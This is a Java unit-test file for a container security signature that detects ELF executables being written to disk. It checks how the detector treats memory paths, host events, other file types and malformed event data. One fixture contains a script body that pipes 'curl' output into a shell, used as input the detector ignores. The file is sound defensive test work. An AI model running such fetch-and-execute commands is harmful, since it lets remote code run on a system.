package dev.sigil.signatures.tracee;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.sigil.core.Finding;
import dev.sigil.core.Origin;
import dev.sigil.core.Severity;
import dev.sigil.core.SignatureStats;
import dev.sigil.core.testing.EventBuilder;
import dev.sigil.core.testing.SignatureHarness;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class DroppedExecutableTest {
  private static final byte[] ELF = {0x7f, 'E', 'L', 'F', 2, 1, 1, 0};
  private final SignatureHarness harness = SignatureHarness.of(new DroppedExecutable());
  private final List<Finding> findings = harness.findings();

  private static EventBuilder write(String pathname, byte[] bytes) {
    return EventBuilder.event("magic_write").origin(Origin.CONTAINER).timestamp(1_000)
        .arg("pathname", pathname).arg("bytes", bytes).arg("dev", 0x800001L).arg("inode", 42L);
  }

  private SignatureStats stats() {
    return harness.stats();
  }

  @Test
  void reportsElfWrittenToBinMalwareInContainer() {
    harness.feed(write("/bin/malware", ELF).build());

    assertEquals(1, findings.size());
    Finding finding = findings.get(0);
    assertEquals(Map.of("path", "/bin/malware"), finding.data());
    assertEquals("TRC-1022", finding.metadata().id());
    assertEquals(Severity.MEDIUM, finding.severity());
    assertEquals("/bin/malware", finding.event().string(dev.sigil.core.ArgKey.of("pathname")).toString());
  }

  @Test
  void ignoresZeroBytes() {
    harness.feed(write("/bin/malware", new byte[] {0, 0, 0, 0}).build());
    assertTrue(findings.isEmpty());
  }

  @ParameterizedTest
  @ValueSource(strings = {"/dev/shm/malware", "/run/shm/malware", "memfd:test"})
  void ignoresElfInMemory(String pathname) {
    harness.feed(write(pathname, ELF).build());
    assertTrue(findings.isEmpty());
  }

  @Test
  void ignoresZipMagic() {
    harness.feed(write("/bin/malware", new byte[] {0x50, 0x4b, 0x03, 0x04}).build());
    assertTrue(findings.isEmpty());
  }

  @Test
  void ignoresElfWrittenOnTheHost() {
    harness.feed(write("/bin/malware", ELF).origin(Origin.HOST).build());
    assertTrue(findings.isEmpty());
    assertEquals(0, stats().events(), "a host event must not even be dispatched");
  }

  @Test
  void ignoresElfWrittenWhileTheContainerStarts() {
    harness.feed(write("/bin/malware", ELF).origin(Origin.CONTAINER_INIT).build());
    assertTrue(findings.isEmpty());
    assertEquals(0, stats().events(), "a container-init event must not match a container selector");
  }

  @Test
  void reportsExactlyFourMagicBytes() {
    harness.feed(write("/bin/malware", new byte[] {0x7f, 'E', 'L', 'F'}).build());
    assertEquals(1, findings.size());
  }

  @Test
  void ignoresThreeMagicBytes() {
    harness.feed(write("/bin/malware", new byte[] {0x7f, 'E', 'L'}).build());
    assertTrue(findings.isEmpty());
    assertEquals(0, stats().dataProblems(), "a short write is data, not a data problem");
  }

  @Test
  void reportsPathThatMerelyContainsDevShm() {
    harness.feed(write("/tmp/dev/shm/x", ELF).build());
    assertEquals(List.of(Map.of("path", "/tmp/dev/shm/x")), findings.stream().map(Finding::data).toList());
  }

  @Test
  void reportsOldArgumentVocabulary() {
    harness.feed(EventBuilder.event("magic_write").origin(Origin.CONTAINER)
        .arg("pathname", "const char*", "/usr/local/bin/miner")
        .arg("bytes", "bytes", ELF)
        .arg("dev", "dev_t", 0x800001L)
        .arg("inode", "unsigned long", 42L)
        .build());
    assertEquals(List.of(Map.of("path", "/usr/local/bin/miner")),
        findings.stream().map(Finding::data).toList());
  }

  @Test
  void ignoresShebangScript() {
    harness.feed(write("/bin/payload.sh", "#!/bin/sh\ncurl x|sh\n".getBytes(java.nio.charset.StandardCharsets.US_ASCII)).build());
    assertTrue(findings.isEmpty());
  }

  @Test
  void reportsEveryRepeatBecauseTraceeDoesNotDeduplicate() {
    harness.feed(write("/bin/malware", ELF).build());
    harness.feed(write("/bin/malware", ELF).build());
    assertEquals(2, findings.size());
    assertEquals(0, stats().suppressed());
  }

  @Test
  void countsMissingBytesAsDataProblem() {
    harness.feed(EventBuilder.event("magic_write").origin(Origin.CONTAINER)
        .arg("pathname", "/bin/malware").build());
    assertNoFindingButOneDataProblem();
  }

  @Test
  void countsInvalidBytesAsDataProblem() {
    harness.feed(EventBuilder.event("magic_write").origin(Origin.CONTAINER)
        .arg("pathname", "/bin/malware").invalidArg("bytes", "[]byte").build());
    assertNoFindingButOneDataProblem();
  }

  @Test
  void countsBytesOfWrongKindAsDataProblem() {
    harness.feed(EventBuilder.event("magic_write").origin(Origin.CONTAINER)
        .arg("pathname", "/bin/malware").arg("bytes", "f0VMRgIBAQ==").build());
    assertNoFindingButOneDataProblem();
  }

  @Test
  void countsMissingPathnameAsDataProblem() {
    harness.feed(EventBuilder.event("magic_write").origin(Origin.CONTAINER).arg("bytes", ELF).build());
    assertNoFindingButOneDataProblem();
  }

  @Test
  void countsInvalidPathnameAsDataProblem() {
    harness.feed(EventBuilder.event("magic_write").origin(Origin.CONTAINER)
        .invalidArg("pathname", "string").arg("bytes", ELF).build());
    assertNoFindingButOneDataProblem();
  }

  @Test
  void countsPathnameOfWrongKindAsDataProblem() {
    harness.feed(EventBuilder.event("magic_write").origin(Origin.CONTAINER)
        .arg("pathname", 17L).arg("bytes", ELF).build());
    assertNoFindingButOneDataProblem();
  }

  @Test
  void countsNullPathnameAsDataProblem() {
    harness.feed(EventBuilder.event("magic_write").origin(Origin.CONTAINER)
        .arg("pathname", null).arg("bytes", ELF).build());
    assertNoFindingButOneDataProblem();
  }

  private void assertNoFindingButOneDataProblem() {
    assertTrue(findings.isEmpty());
    assertEquals(1, stats().dataProblems());
    assertEquals(0, stats().errors());
  }
}
